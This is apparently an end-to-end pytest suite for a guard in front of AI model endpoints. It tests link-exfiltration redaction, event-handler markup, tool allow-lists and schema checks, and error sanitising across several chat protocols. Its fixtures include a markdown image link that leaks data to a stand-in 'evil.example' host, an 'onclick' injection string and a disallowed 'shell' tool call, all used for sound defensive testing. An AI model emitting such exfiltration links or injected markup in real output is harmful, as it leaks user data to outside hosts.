"""Fields of checks on answers, against real Envoy, agent and worker: each test fails when its field is ignored."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from tests.support.field_world import World
from tests.support.raw_client import wait_until
from tests.support.raw_model import Received, Write, sse
from tests.support.raw_model import answer as answer_of

pytestmark = [pytest.mark.e2e, pytest.mark.xdist_group("fields")]

OUT: dict[str, Any] = {
    "routes": [{"path": "/in", "inputText": ["$.text"]}, {"path": "/out", "outputText": ["$.echo"]}]
}
SCORES: dict[str, Any] = {"routes": [{"path": "/out", "outputScores": ["$.probabilities"]}]}
EVIL, LISTED = "![x](https://evil.example/?d=1)", "see https://docs.example/a and https://a.cdn.example/b"
SCRIPT = "a <b onclick=f()> b"


def kinds(world: World, answer: Any) -> set[tuple[str, str, str]]:
    found = world.record(answer).get("findings", ())
    return {(one["check"], one["kind"], one["action"]) for one in found}


def native(world: World, answer: Any) -> set[tuple[str, str]]:
    """What Envoy said beside the guard."""
    name = f"{answer.headers['x-bartizan-decision']}-e"
    return {(one["cause"], one["action"]) for one in world.sidecar.records() if one["id"] == name}


def test_links_to_hosts_that_are_not_listed_do_what_the_action_says(world: World) -> None:
    for action, status in (("redact", 200), ("cut", 403), ("flag", 200)):
        check = {"exfiltration": {"links": ["docs.example", "*.cdn.example"], "action": action}}
        world.use(**OUT, output=[check])
        answer = world.ask("/out", {"text": LISTED})
        assert (answer.status, answer.json()["echo"]) == (200, LISTED)
        answer = world.ask("/out", {"text": EVIL})
        assert answer.status == status, action
        if status == 200:
            assert answer.json()["echo"] == ("![x]([LINK])" if action == "redact" else EVIL)
        assert kinds(world, answer) == {("exfiltration", "link", action)}
    world.use(**OUT, output=[{"exfiltration": {}}])
    assert world.ask("/out", {"text": LISTED}).json()["echo"] == "see [LINK] and [LINK]"


def test_markup_does_what_the_action_says_in_requests_and_answers(world: World) -> None:
    for action, status in (("redact", 200), ("deny", 403), ("flag", 200)):
        world.use(**OUT, input=[{"markup": {"action": action}}], output=[{"markup": {"action": action}}])
        left = "a [MARKUP] b" if action == "redact" else SCRIPT
        before = world.reached()
        answer = world.ask("/in", {"text": SCRIPT})
        assert (answer.status, world.reached() - before) == (status, int(status == 200)), action
        if status == 200:
            assert world.said() == left
        assert kinds(world, answer) == {("markup", "event_handler", action)}
        answer = world.ask("/out", {"text": SCRIPT})
        assert answer.status == status, action
        if status == 200:
            assert answer.json()["echo"] == left
        assert kinds(world, answer) == {("markup", "event_handler", action)}


def test_only_the_highest_scores_and_those_of_listed_labels_remain(world: World) -> None:
    for field, left in (
        ({}, {"good": 0.88, "bad": 0.12}),
        ({"top": 1}, {"good": 0.88, "bad": 0.0}),
        ({"labels": ["bad"]}, {"good": 0.0, "bad": 0.12}),
    ):
        world.use(**SCORES, output=[{"probabilities": field}])
        assert world.ask("/out").json()["probabilities"] == left


TOOL_SCHEMA = {"type": "object", "properties": {"q": {"type": "string"}}, "required": ["q"]}
MOOD_SCHEMA = {"type": "object", "properties": {"mood": {"enum": ["good", "bad"]}}, "required": ["mood"]}


def chat(world: World, says: str, check: dict[str, Any]) -> tuple[Any, str]:
    """The answer of a chat model that says this, and what a client gathers of it."""
    world.use(model={"name": "m", "protocol": "openai", "port": "{model}"}, routes=None, output=[check])
    world.model.says = says
    answer = world.ask("/v1/chat/completions", {"messages": [{"role": "user", "content": "hello"}]})
    gathered = answer.body.decode()
    if answer.headers["content-type"] == "text/event-stream":
        events = [json.loads(line[6:]) for line in gathered.splitlines() if line.startswith("data: {")]
        deltas = [choice for event in events for choice in event["choices"]]
        gathered = "".join(
            one["delta"].get("content")
            or "".join(
                call["function"].get("name", "") + call["function"]["arguments"]
                for call in one["delta"].get("tool_calls", ())
            )
            for one in deltas
        )
    return answer, gathered


@pytest.mark.parametrize("stream", ["", "sse_"])
def test_only_listed_tools_are_called_and_only_with_fitting_arguments(world: World, stream: str) -> None:
    whole = {"tools": {"allow": ["search"], "schemas": {"search": TOOL_SCHEMA}, "action": "deny"}}
    names = {"tools": {"allow": ["search"]}}
    flag = {"tools": {"allow": ["search"], "schemas": {"search": TOOL_SCHEMA}, "action": "flag"}}
    for check, says, kind in (
        (whole, "tool", ""),
        (whole, "tool_evil", "tool_not_allowed"),
        (whole, "tool_odd", "tool_arguments"),
        (names, "tool_odd", ""),
        (names, "tool_evil", "tool_not_allowed"),
        (flag, "tool_odd", "tool_arguments"),
        ({"tools": {}}, "tool", "tool_not_allowed"),
    ):
        answer, gathered = chat(world, stream + says, check)
        action = "flag" if check is flag else "cut" if stream else "deny"
        case: tuple[str, Any] = (says, check)
        assert kinds(world, answer) == (
            {("tools", kind, "flag" if check is flag else "deny")} if kind else set()
        ), case
        blocked = bool(kind) and action != "flag"
        assert answer.status == (403 if blocked and not stream else 200), case
        assert any(word in gathered for word in ("tea", ": 7", "cmd", "shell")) != blocked, (case, gathered)
        if stream:
            assert ("content_filter" in answer.body.decode()) == blocked, case


@pytest.mark.parametrize("protocol", ["anthropic", "ollama"])
def test_calls_of_other_protocols_are_judged_alike(world: World, protocol: str) -> None:
    path, kind = {
        "anthropic": ("/v1/messages", "text/event-stream"),
        "ollama": ("/api/chat", "application/x-ndjson"),
    }[protocol]
    world.use(
        model={"name": "m", "protocol": protocol, "port": "{model}"},
        routes=None,
        output=[{"tools": {"allow": ["search"], "schemas": {"search": TOOL_SCHEMA}}}],
    )
    for name, said, found in (
        ("search", {"q": "tea"}, set()),
        ("search", {"q": 7}, {("tools", "tool_arguments", "deny")}),
        ("shell", {"q": "tea"}, {("tools", "tool_not_allowed", "deny")}),
    ):
        for streamed in (False, True):
            call: dict[str, Any] = {"type": "tool_use", "id": "t", "name": name, "input": said}
            message: Any = {"id": "m", "type": "message", "content": [call]}
            if protocol == "ollama":
                call = {"function": {"name": name, "arguments": said}}
                message = {"message": {"role": "assistant", "tool_calls": [call]}, "done": True}
            pieces = _anthropic(name, said) if protocol == "anthropic" else [json.dumps(message) + "\n"]
            events = sse(*(piece.encode() for piece in pieces), kind=kind)
            world.model.script = events if streamed else _whole(message)
            answer = world.ask(path, {"messages": [{"role": "user", "content": "hi"}], "stream": streamed})
            case = (protocol, name, said, streamed)
            assert kinds(world, answer) == found, case
            assert answer.status == (403 if found and not streamed else 200), case
            assert (b"shell" in answer.body, b": 7" in answer.body) == (False, False), case
            assert (b"tea" in answer.body) == (not found), case
    world.model.script = None


def _whole(message: Any) -> Callable[[Received, Write], None]:
    said = answer_of(json.dumps(message).encode())
    return lambda _request, write: write(said)


def _anthropic(name: str, said: Any) -> list[str]:
    block = {"type": "tool_use", "id": "t", "name": name, "input": {}}
    arguments = json.dumps(said)
    deltas = [arguments[:4], arguments[4:]]
    events: list[dict[str, Any]] = [
        {"type": "message_start", "message": {"id": "m", "type": "message", "content": []}},
        {"type": "content_block_start", "index": 0, "content_block": block},
        *(
            {
                "type": "content_block_delta",
                "index": 0,
                "delta": {"type": "input_json_delta", "partial_json": delta},
            }
            for delta in deltas
        ),
        {"type": "content_block_stop", "index": 0},
        {"type": "message_stop"},
    ]
    return [f"event: {event['type']}\ndata: {json.dumps(event)}\n\n" for event in events]


@pytest.mark.parametrize("stream", ["", "sse_"])
def test_an_answers_text_fits_the_schema_or_is_withheld(world: World, stream: str) -> None:
    for action in ("deny", "flag"):
        check = {"structured": {"schema": MOOD_SCHEMA, "action": action}}
        answer, gathered = chat(world, f"{stream}json" if stream else "chat_json", check)
        assert (answer.status, "good" in gathered, kinds(world, answer)) == (200, True, set())
        answer, gathered = chat(world, f"{stream}odd_json" if stream else "chat_odd_json", check)
        assert answer.status == (403 if action == "deny" and not stream else 200)
        assert ("ugly" in gathered) == (action == "flag")
        assert kinds(world, answer) == {("structured", "schema_mismatch", action)}


@pytest.mark.parametrize("checked", [False, True])
def test_what_a_models_errors_say_stays_here_whether_answers_are_checked_or_not(
    world: World,
    checked: bool,
) -> None:
    output: dict[str, Any] = {"output": [{"pii": {}}]} if checked else {}
    world.use(**OUT, **output)
    for said, status in (
        ("stack_trace", 500),
        ("json_fault", 500),
        ("html_error", 404),
        ("bare_error", 400),
        ("redirect", 302),
    ):
        world.model.says = said
        answer = world.ask("/out")
        assert answer.status == status, said
        assert b"Traceback" not in answer.body, said
        assert "location" not in answer.headers, said
        if said != "redirect":
            assert answer.headers["content-type"] == "application/problem+json"
            assert b"model answered with an error" in answer.body, said
        assert len(answer.headers["x-bartizan-decision"]) >= 32
        if checked:
            assert kinds(world, answer) == {("answer", "error_replaced", "redact")}
        elif status >= 400:
            assert wait_until(lambda: native(world, answer) == {("model_error", "redact")})  # noqa: B023
    world.model.says = "json_error"
    answer = world.ask("/out")
    assert (answer.status, answer.json()["detail"]) == (422, "field required")
